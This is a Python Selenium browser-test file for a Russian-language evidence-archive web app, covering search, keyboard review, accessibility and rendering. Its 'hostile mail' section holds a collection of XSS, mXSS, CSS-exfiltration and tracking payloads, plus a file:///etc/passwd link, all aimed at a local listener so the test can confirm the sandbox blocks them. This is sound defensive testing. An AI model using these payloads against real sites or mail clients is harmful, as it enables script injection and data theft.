"""The pages in real headless Chromium: opening, filtering, searching in Russian, deciding by keys, two people, access, hostile mail.

With EVIDENCE_SHOTS=FOLDER the screenshots are kept there to be looked at.
"""

from __future__ import annotations

import base64
import json
import os
import time
from collections.abc import Iterator
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from selenium.common.exceptions import NoAlertPresentException, WebDriverException
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.expected_conditions import staleness_of
from selenium.webdriver.support.ui import WebDriverWait

from tests.browse.conftest import Listener, Served, chromium, serving
from tests.browse.make_archive import PNG, Made, Maker, letter, related

AXE = (Path(__file__).parents[1] / "assets" / "axe.min.js").read_text(encoding="utf-8")
PAGES = ("/", "/-/evidence/search?q=полка", "/-/evidence/review", "/-/evidence/requests", "/-/evidence/assessment", "/-/evidence/effort",
         "/-/evidence/completeness", "/-/evidence/log", "/-/evidence/bundles", "/-/evidence/files", "/-/evidence/help")  # fmt: skip


@pytest.fixture(scope="module")
def standing(shelf: Made, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """One server for the tests that only read."""
    with serving(shelf.path, write=False) as running:
        yield running


def keep(browser: Any, name: str) -> bytes:
    shot: bytes = browser.get_screenshot_as_png()
    if folder := os.environ.get("EVIDENCE_SHOTS"):
        Path(folder).mkdir(parents=True, exist_ok=True)
        (Path(folder) / f"{name}.png").write_bytes(shot)
    return shot


def wait(browser: Any, true: Any, seconds: float = 10) -> Any:
    return WebDriverWait(browser, seconds, poll_frequency=0.05).until(true)


def all_(browser: Any, css: str) -> list[Any]:
    return list(browser.find_elements(By.CSS_SELECTOR, css))


def one(browser: Any, css: str) -> Any:
    return browser.find_element(By.CSS_SELECTOR, css)


def complaints(browser: Any) -> list[str]:
    """What the browser reported: refused loads, blocked styles, script errors."""
    return [entry["message"] for entry in browser.get_log("browser") if "favicon" not in entry["message"]]


def press(browser: Any, keys: str) -> None:
    browser.switch_to.active_element.send_keys(keys)


def test_it_opens_on_the_timeline_and_a_filter_is_an_address(browser: Any, standing: Served) -> None:
    browser.get_log("browser")
    browser.get(standing.url("/"))
    assert one(browser, "h1").text == "Хронология"
    everything = len(all_(browser, ".entry"))
    assert one(browser, ".entry.client").location["x"] < one(browser, ".entry.us").location["x"]
    browser.get(standing.url(str(one(browser, ".drawing svg a").get_dom_attribute("href"))))  # click to jump
    assert one(browser, ".entry:target").get_attribute("id").startswith("m-")
    fill = browser.execute_script("return getComputedStyle(document.querySelector('.drawing .c')).fill")
    assert fill == "rgb(154, 74, 18)"  # the picture's own style block is let through
    wait(browser, lambda b: b.execute_script("return window.scrollY") > 0)  # the jump is over before we go back up
    browser.execute_script("window.scrollTo(0, 0)")
    wait(browser, lambda b: b.execute_script("return window.scrollY") == 0)
    one(browser, ".chip.threat").click()
    wait(browser, lambda b: "category=threat" in b.current_url)
    assert 0 < len(all_(browser, ".entry")) < everything
    one(browser, "select[name=side] option[value=client]").click()
    one(browser, ".filters form button").click()
    wait(browser, lambda b: "side=client" in b.current_url)
    assert "category=threat" in browser.current_url
    assert not all_(browser, ".entry.us")
    assert complaints(browser) == []


def test_searching_in_russian_from_the_keyboard_finds_other_forms(browser: Any, standing: Served) -> None:
    browser.get(standing.url("/"))
    press(browser, "/")
    assert browser.switch_to.active_element.get_attribute("id") == "q"
    press(browser, "коробкам" + Keys.ENTER)
    wait(browser, lambda b: "search" in b.current_url)
    marked = {m.text.lower() for m in all_(browser, "mark")}
    assert marked & {"коробки", "коробок", "коробку"}
    one(browser, ".hit a").click()
    wait(browser, lambda b: all_(b, "article.message"))
    assert "/-/evidence/message/" in browser.current_url


def test_the_languages_switch_and_stay(standing: Served, tmp_path: Path) -> None:
    with chromium(tmp_path / "profile") as browser:
        browser.get(standing.url("/-/evidence/requests"))
        one(browser, ".languages a").click()
        wait(browser, lambda b: one(b, "h1").text == "Requests")
        assert browser.current_url.endswith("/-/evidence/requests")
        browser.get(standing.url("/"))
        assert one(browser, "h1").text == "Timeline"
        assert one(browser, "html").get_attribute("lang") == "en"


def test_deciding_by_keys_alone(served: Served, tmp_path: Path) -> None:
    with chromium(tmp_path / "profile") as browser:
        browser.get(served.door)
        assert "token" not in browser.current_url  # the secret does not stay in the history's last entry
        browser.get(served.url("/-/evidence/review"))
        items = all_(browser, ".item")
        first, second, third = (i.get_attribute("data-id") for i in items[:3])

        def said() -> str:
            return str(one(browser, "#said").text)

        press(browser, "a")
        wait(browser, lambda b: said() == "Подтверждено.")
        press(browser, "r")
        wait(browser, lambda b: said() == "Отклонено.")
        wait(browser, lambda b: one(b, ".item.here").get_attribute("data-id") == third)
        rows = served.rows("SELECT target_id, decision FROM review ORDER BY id")
        assert [tuple(r) for r in rows] == [(first, "accepted"), (second, "rejected")]
        assert "2 из" in one(browser, "#progress-text").text
        press(browser, "u")
        wait(browser, lambda b: said() == "Отменено.")
        assert tuple(served.rows("SELECT target_id, decision FROM review ORDER BY id DESC LIMIT 1")[0]) == (
            second,
            "unreviewed",
        )
        assert one(browser, ".item.here").get_attribute("data-id") == second
        assert "1 из" in one(browser, "#progress-text").text
        press(browser, "n")
        assert browser.switch_to.active_element.get_attribute("name") == "note"
        press(browser, "спросить Елену" + Keys.ENTER)
        wait(browser, lambda b: said() == "Заметка добавлена.")
        assert tuple(served.rows("SELECT target_id, text FROM note")[0]) == (second, "спросить Елену")
        press(browser, Keys.ESCAPE)
        press(browser, "c")
        assert browser.switch_to.active_element.get_attribute("name") == "category"
        one(browser, ".item.here select[name=category] option[value=insult]").click()
        wait(browser, lambda b: said() == "Подтверждено в другой категории.")
        row = served.rows("SELECT * FROM review ORDER BY id DESC LIMIT 1")[0]
        assert (row["target_id"], row["decision"], row["category"]) == (second, "accepted", "insult")
        press(browser, Keys.ESCAPE)
        press(browser, "k")
        press(browser, "j")
        keep(browser, "review")
        press(browser, "o")
        wait(browser, lambda b: "/-/evidence/message/" in b.current_url)
        assert complaints(browser) == []


def test_two_browsers_at_once_lose_no_decision(served: Served, tmp_path: Path) -> None:
    with chromium(tmp_path / "one") as anna, chromium(tmp_path / "two") as boris:
        for browser, name in ((anna, "Анна"), (boris, "Борис")):
            browser.get(served.door)
            field = one(browser, ".who input[name=actor]")
            field.clear()
            field.send_keys(name + Keys.ENTER)
            wait(browser, staleness_of(field))
            again = wait(browser, lambda b: all_(b, ".who input[name=actor]"))
            assert again[0].get_attribute("value") == name
            browser.get(served.url("/-/evidence/review"))
        press(anna, "a")
        wait(anna, lambda b: one(b, "#said").text == "Подтверждено.")
        press(boris, "r")
        wait(boris, lambda b: "Анна" in one(b, "#said").text)
        assert "Не записано" in one(boris, "#said").text
        assert "подтверждено" in one(boris, ".item.here .state:not(.decide)").text
        assert [r["actor"] for r in served.rows("SELECT actor FROM review")] == ["Анна"]
        press(boris, "r")  # having seen it, he decides anew
        wait(boris, lambda b: one(b, "#said").text == "Отклонено.")
        assert [(r["actor"], r["decision"]) for r in served.rows("SELECT * FROM review ORDER BY id")] == [
            ("Анна", "accepted"),
            ("Борис", "rejected"),
        ]


def test_reading_needs_no_scripts(standing: Served, shelf: Made, tmp_path: Path) -> None:
    with chromium(tmp_path / "profile", "--blink-settings=scriptEnabled=false") as browser:
        browser.get(standing.url("/"))
        assert len(all_(browser, ".entry")) > 20
        one(browser, "#q").send_keys("полка" + Keys.ENTER)
        wait(browser, lambda b: all_(b, ".hit"))
        browser.get(standing.url(f"/-/evidence/message/{shelf.sha['0010']}"))
        one(browser, "details.zone summary").click()
        assert one(browser, "details.zone > div").is_displayed()


def axe(browser: Any) -> list[str]:
    """Serious and critical findings of axe-core against WCAG 2.2 A and AA, as text."""
    browser.execute_cdp_cmd("Page.setBypassCSP", {"enabled": True})
    browser.execute_script(AXE + "\nwindow.axe = axe;")
    found = browser.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        "axe.run(document, {runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']})"
        ".then(r => done(r.violations.map(v => v.impact + ' ' + v.id + ': ' + v.nodes.map(n => n.target.join(' ')).slice(0, 4).join(' | '))));"
    )
    return [line for line in found if line.startswith(("serious", "critical"))]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious_on_any_page(
    standing: Served, served: Served, shelf: Made, tmp_path: Path, scheme: str
) -> None:
    with chromium(tmp_path / "profile") as browser:
        browser.execute_cdp_cmd(
            "Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": scheme}]}
        )
        found = {}
        browser.get(served.door)
        request = served.rows("SELECT id FROM request WHERE outcome = 'no-reply' LIMIT 1")[0][0]
        paths = [
            *PAGES,
            f"/-/evidence/message/{shelf.sha['0010']}",
            f"/-/evidence/review/request/{request}",
            "/-/evidence/search?q=(",
            "/-/evidence/none",
        ]
        for path in (
            paths
            if scheme == "light" or os.environ.get("EVIDENCE_TEST_FULL")
            else [paths[0], *paths[2:4], *paths[-4:-1]]
        ):
            browser.get(served.url(path))
            if lines := axe(browser):
                found[path] = lines
        assert found == {}


TABLES = ("/archive", "/archive/flags", "/archive/messages?_facet=speaker&_sort_desc=at", "/archive/flags?category__exact=threat&_facet=tier",
          "/archive/custody_log", "/archive/people?_search=x", "/archive/review/1", "/archive/event/0", "/archive/nothing")  # fmt: skip


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious_on_datasettes_own_pages(served: Served, tmp_path: Path, scheme: str) -> None:
    with chromium(tmp_path / "profile") as browser:
        browser.execute_cdp_cmd(
            "Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": scheme}]}
        )
        browser.get(served.door)
        browser.get(served.url("/-/evidence/review"))
        all_(browser, ".decide .yes")[0].click()  # so that there is a row of a decision to look at
        wait(browser, lambda _: served.rows("SELECT count(*) FROM review")[0][0])
        found = {}
        for number, path in enumerate(
            TABLES if scheme == "light" or os.environ.get("EVIDENCE_TEST_FULL") else TABLES[1:4]
        ):
            browser.get(served.url(path))
            keep(browser, f"datasette-{scheme}-{number}")
            if lines := axe(browser):
                found[path] = lines
        assert found == {}, json.dumps(found, indent=1)


def test_dark_narrow_and_print(standing: Served, shelf: Made, tmp_path: Path) -> None:
    with chromium(tmp_path / "profile") as browser:
        browser.get(standing.url("/"))
        light = keep(browser, "timeline")
        browser.execute_cdp_cmd(
            "Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark"}]}
        )
        ground = browser.execute_script("return getComputedStyle(document.body).backgroundColor")
        assert max(int(n) for n in ground[4:-1].split(",")) < 60
        assert keep(browser, "timeline-dark") != light
        browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
        browser.execute_cdp_cmd(
            "Emulation.setDeviceMetricsOverride", {"width": 360, "height": 780, "deviceScaleFactor": 1, "mobile": True}
        )
        request = shelf.sha["0010"]
        for path in (*PAGES, f"/-/evidence/message/{request}"):
            browser.get(standing.url(path))
            width = browser.execute_script("return document.documentElement.scrollWidth")
            assert width <= 360, f"{path} is {width} px wide on a telephone"
        browser.get(standing.url("/"))
        keep(browser, "timeline-narrow")
        browser.get(standing.url(f"/-/evidence/message/{request}"))
        keep(browser, "message-narrow")
        browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
        for name, path in (("timeline", "/"), ("message", f"/-/evidence/message/{request}")):
            browser.get(standing.url(path))
            pdf = base64.b64decode(
                browser.execute_cdp_cmd("Page.printToPDF", {"paperWidth": 8.27, "paperHeight": 11.7})["data"]
            )
            assert pdf.startswith(b"%PDF")
            if folder := os.environ.get("EVIDENCE_SHOTS"):
                (Path(folder) / f"{name}-print.pdf").write_bytes(pdf)
            browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "print"})
            assert not one(browser, ".pages").is_displayed()
            assert one(browser, "h1").is_displayed()
            browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": ""})


# ---- hostile mail --------------------------------------------------------------------------


def hostile(port: int) -> list[bytes]:
    """Trackers, scripts and traps of every kind that mail is known to carry; all of them call 127.0.0.1:port."""
    at = f"http://127.0.0.1:{port}"
    bodies = [
        f'<img src="{at}/img"><img srcset="{at}/srcset 2x"><picture><source srcset="{at}/source"><img></picture>',
        f'<link rel="stylesheet" href="{at}/css"><link rel="prefetch" href="{at}/prefetch"><link rel="dns-prefetch" href="{at}"><link rel="preconnect" href="{at}">',
        f'<style>@import url("{at}/import"); @font-face {{font-family:x; src:url({at}/font)}} body {{font-family:x; background:url({at}/bg)}} '
        f'input[value^="a"] {{background:url({at}/exfil)}} li {{list-style:url({at}/list)}} p::after {{content:url({at}/content)}}</style><p>x<ul><li>y</ul>',
        f'<div style="background-image:url({at}/style)">x</div><table background="{at}/table"><tr><td background="{at}/td">x</table><body background="{at}/body">',
        f'<script src="{at}/script"></script><script>fetch("{at}/fetch"); document.location="{at}/loc"</script>',
        f'<img src=x onerror="new Image().src=\'{at}/onerror\'"><svg onload="fetch(\'{at}/svg\')"><image href="{at}/svgimage"/><use href="{at}/use#a"/></svg>',
        f'<iframe src="{at}/iframe"></iframe><object data="{at}/object"></object><embed src="{at}/embed"><frame src="{at}/frame">',
        f'<meta http-equiv="refresh" content="0;url={at}/refresh"><base href="{at}/"><img src="relative">',
        f'<video src="{at}/video" poster="{at}/poster" autoplay></video><audio src="{at}/audio" autoplay></audio><track src="{at}/track">',
        f'<form action="{at}/form"><input autofocus onfocus="this.form.submit()" type="image" src="{at}/inputimage"></form>',
        f'<a href="javascript:fetch(\'{at}/js\')" id="trap">нажмите</a><a href="{at}/ping" ping="{at}/pinged">сюда</a><a href="file:///etc/passwd">файл</a>',
        f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch(\'{at}/mxss\')&gt;"></mglyph></mtext></math>',
        f'<noscript><p title="</noscript><img src=x onerror=fetch(\'{at}/noscript\')>"></noscript><template><img src="{at}/template"></template>',
    ]  # fmt: skip
    return [
        letter(
            html=f"<html><body>{body}</body></html>",
            subject=f"<b onmouseover=alert(1)>{i}",
            at=datetime(2025, 4, 20, 10, i, tzinfo=UTC),
        )
        for i, body in enumerate(bodies)
    ]


def test_a_mailbox_full_of_trackers_makes_no_request(listener: Listener, tmp_path: Path) -> None:
    maker = Maker(tmp_path / "archive.db", people={"ivan@evil.example": ("client", "Иван")})
    shas = [maker.add(str(i), raw) for i, raw in enumerate(hostile(listener.port))]
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'http://127.0.0.1:{listener.port}/svg\')"/>'.encode()
    shas.append(
        maker.add(
            "svg",
            letter(
                files=[("a.svg", "image/svg+xml", svg), ("a.png", "image/png", svg)],
                text=f"http://127.0.0.1:{listener.port}/text",
            ),
        )
    )
    made = maker.finish(title="<script>alert(1)</script>", language="ru")
    with chromium(tmp_path / "control") as browser:  # that the listener would hear it; its spare sockets die with it
        with suppress(WebDriverException):
            browser.get(f"http://127.0.0.1:{listener.port}/control")
        wait(browser, lambda _: any(b"/control" in heard for heard in listener.requests))
    time.sleep(0.7)
    listener.requests.clear()
    with serving(made.path, write=False) as running, chromium(tmp_path / "profile") as browser:
        for path in (
            "/",
            "/-/evidence/search?q=нажмите",
            "/-/evidence/review",
            "/archive/messages?_shape=html",
            "/archive/flags",
        ):
            browser.get(running.url(path))
        for sha256 in shas:
            browser.get(running.url(f"/-/evidence/message/{sha256}"))
            for summary in all_(browser, "summary"):
                browser.execute_script("arguments[0].parentElement.open = true", summary)
            for frame in all_(browser, "iframe"):
                browser.execute_script("arguments[0].scrollIntoView()", frame)
                time.sleep(0.1)
                assert frame.get_attribute("sandbox") == ""
                browser.switch_to.frame(frame)
                assert (
                    all_(
                        browser,
                        "a[href], script, iframe, object, embed, form, input, link, meta[http-equiv], base, svg, video, audio",
                    )
                    == []
                )
                browser.switch_to.default_content()
            browser.get(running.url(f"/-/evidence/message/{sha256}/html"))  # and straight, outside the frame
            assert "127.0.0.1" in browser.current_url
            assert str(running.port) in browser.current_url
        time.sleep(0.5)
        assert listener.requests == []
        with pytest.raises(NoAlertPresentException):
            browser.switch_to.alert.accept()


def test_a_picture_of_the_letter_is_drawn_in_the_frame_and_one_from_elsewhere_is_not_asked_for(
    listener: Listener, tmp_path: Path
) -> None:
    maker = Maker(tmp_path / "archive.db", people={"ivan@evil.example": ("client", "Иван")})
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:{listener.port}/svg"/></svg>'.encode()
    html = f'<p>Печать:</p><img src="cid:seal" alt="печать"><img src="cid:svg" alt="схема"><img src="http://127.0.0.1:{listener.port}/img" alt="след">'
    sha256 = maker.add("cid", related(html, [("seal", "image/png", PNG), ("svg", "image/png", svg)]))
    made = maker.finish(title="t", language="ru")
    with serving(made.path, write=False) as running, chromium(tmp_path / "profile") as browser:
        browser.get(running.url(f"/-/evidence/message/{sha256}"))
        for summary in all_(browser, "summary"):
            browser.execute_script("arguments[0].parentElement.open = true", summary)
        frame = one(browser, "iframe")
        browser.execute_script("arguments[0].scrollIntoView()", frame)
        browser.switch_to.frame(frame)
        (picture,) = wait(browser, lambda _: all_(browser, "img"))
        assert wait(browser, lambda _: int(picture.get_property("naturalWidth"))) == 1
        assert picture.get_attribute("alt") == "печать"
        assert "[схема]" in one(browser, "body").text
        browser.switch_to.default_content()
        assert [c for c in complaints(browser) if "Content Security Policy" in c] == []  # the layout asked for nothing
    assert listener.requests == []


def test_rebinding_a_name_to_this_machine_gets_nothing(standing: Served, tmp_path: Path) -> None:
    with chromium(tmp_path / "profile", "--host-resolver-rules=MAP rebind.example 127.0.0.1") as browser:
        browser.get(f"http://rebind.example:{standing.port}/archive/flags.json")
        text = one(browser, "body").text
        assert "one of the archive's own" in text
        assert "Полка" not in browser.page_source
        assert browser.execute_script("return performance.getEntriesByType('navigation')[0].responseStatus") == 403
